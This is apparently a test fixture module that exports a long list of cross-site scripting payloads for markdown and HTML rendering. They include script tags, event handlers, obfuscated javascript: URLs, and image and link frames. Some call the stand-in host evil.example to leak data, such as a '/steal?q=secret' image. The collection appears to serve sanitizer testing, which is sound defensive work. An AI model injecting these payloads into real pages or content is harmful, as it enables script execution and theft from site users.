// Texts that try to run a script or to fetch something when they are shown.
const js = 'window.hacked=1';
const tags = [
  `<script>${js}</script>`, `<img src=x onerror="${js}">`, `<svg onload="${js}">`, `<svg/onload=${js}>`, `<iframe srcdoc="<script>parent.${js}</script>">`,
  `<iframe src="javascript:parent.${js}">`, `<body onload="${js}">`, `<input autofocus onfocus="${js}">`, `<details open ontoggle="${js}">`,
  `<video><source onerror="${js}">`, `<math><a xlink:href="javascript:${js}">x</a></math>`, `<a href="javascript:${js}">x</a>`,
  `<object data="javascript:${js}">`, `<embed src="javascript:${js}">`, `<form action="javascript:${js}"><button>x`, `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${js}">`, `<link rel=stylesheet href="https://evil.example/x.css">`, `<style>@import "https://evil.example/x.css"</style>`,
  `<template><script>${js}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${js}>">`, `"><script>${js}</script>`, `'><img src=x onerror=${js}>`,
  `</textarea><script>${js}</script>`, `</title><script>${js}</script>`, `<!--><script>${js}</script>-->`, `<![CDATA[<script>${js}</script>]]>`, `<ScRiPt>${js}</ScRiPt>`,
  `<scr<script>ipt>${js}</script>`, `<img src="https://evil.example/p.png">`, `<marquee onstart="${js}">`, `<audio src=x onerror="${js}">`, `<table background="https://evil.example/x">`,
];
const schemes = ['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java\nscript:', '\u0001javascript:', 'javascript&colon;', '&#106;avascript:', 'data:text/html,', 'vbscript:',
  'file:///etc/', 'blob:', 'view-source:', 'javascript://%0a', 'feed:javascript:', 'jav&#x09;ascript:'];
const frames = [(address) => `[x](${address})`, (address) => `[x](<${address}>)`, (address) => `![x](${address})`, (address) => `<${address}>`, (address) => `[x]: ${address}\n\n[x]`,
  (address) => `[![x](${address})](${address})`];
const pictures = ['![x](https://evil.example/steal?q=secret)', '[![x](https://evil.example/a.png)](https://evil.example/b)', '![x](//evil.example/a.png)', '![x](/api/delete)', '[x](https://evil.example/"onmouseover="window.hacked=1)',
  '[x](https://a.example "t\\" onclick=\\"window.hacked=1")', '`<script>window.hacked=1</script>`', '```html\n<script>window.hacked=1</script>\n```', '```"><script>window.hacked=1</script>\nx\n```',
  '| a<script>window.hacked=1</script> | b |\n|--|--|\n| <img src=x onerror=window.hacked=1> | ![x](https://evil.example/t.png) |', '# <img src=x onerror=window.hacked=1>', '> <img src=x onerror=window.hacked=1>', '- <img src=x onerror=window.hacked=1>',
  '**<img src=x onerror=window.hacked=1>**', '[<img src=x onerror=window.hacked=1>](https://a.example)', '\u202ehttps://evil.example', 'https://user:password@evil.example/', '<div style="background:url(https://evil.example/x)">'];

export const XSS = [...tags, ...tags.map((tag) => `**bold** ${tag} [a](https://a.example) ${tag}`), ...schemes.flatMap((scheme) => frames.map((frame) => frame(scheme + js))), ...pictures];
